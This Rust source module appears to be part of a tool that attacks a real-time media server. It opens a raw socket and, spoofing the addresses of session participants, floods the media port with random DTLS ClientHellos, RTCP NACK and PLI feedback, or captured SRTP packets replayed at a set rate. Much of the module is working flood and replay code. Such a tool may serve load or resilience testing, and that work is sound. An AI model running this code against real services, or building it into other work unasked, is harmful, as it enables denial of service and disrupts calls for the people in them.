//! Datagrams in the name of people who are in, by whoever has not their keys.

use std::{
    io,
    time::{Duration, Instant},
};

use crate::client::is_rtp;

use super::{
    target::{Offered, TICK, Target, paced},
    wire::{Noise, RawSocket, client_hello, feedback},
};

/// What they send.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Way {
    /// ClientHellos of nothing but chance.
    ClientHellos,
    /// RTCP that asks for everything again, half NACK, half PLI.
    Feedback,
    /// What speakers have sent, once more.
    ReplayedMedia,
}

impl Way {
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::ClientHellos => "ClientHellos, spoofed",
            Self::Feedback => "NACK and PLI, spoofed",
            Self::ReplayedMedia => "replayed SRTP, spoofed",
        }
    }
}

/// Sends them at this rate for as long.
///
/// # Errors
/// [`io::ErrorKind::PermissionDenied`] without the right to that.
pub(super) fn run(way: Way, target: &Target, rate: u32, time: Duration) -> io::Result<Offered> {
    if way == Way::ReplayedMedia {
        return replayed(target, rate, time);
    }
    let socket = RawSocket::open()?;
    let mut noise = Noise::new(7);
    paced(rate, time, |number| {
        let datagram = match way {
            Way::ClientHellos => client_hello(&mut noise),
            _ => feedback(&mut noise, if number % 2 == 0 { 205 } else { 206 }),
        };
        let victim = target.ports[number as usize % target.ports.len()];
        socket.send(victim, target.media, &datagram)?;
        Ok(datagram.len() as u64)
    })
}

fn replayed(target: &Target, rate: u32, time: Duration) -> io::Result<Offered> {
    /// Half a second of one who speaks.
    const KEPT: usize = 25;
    let socket = RawSocket::open()?;
    let mut kept: Vec<(u16, Vec<u8>)> = Vec::new();
    let begun = Instant::now();
    while kept.len() < KEPT && begun.elapsed() < time {
        match socket.next_to(target.media.port()) {
            Some((from, packet)) if is_rtp(&packet) => kept.push((from, packet)),
            Some(_) => {}
            // bounded: by the time of the attack
            None => std::thread::sleep(TICK),
        }
    }
    if kept.is_empty() {
        return Err(io::Error::other("nobody was heard to speak"));
    }
    paced(rate, time.saturating_sub(begun.elapsed()), |number| {
        let (from, packet) = &kept[number as usize % kept.len()];
        socket.send(*from, target.media, packet)?;
        Ok(packet.len() as u64)
    })
}
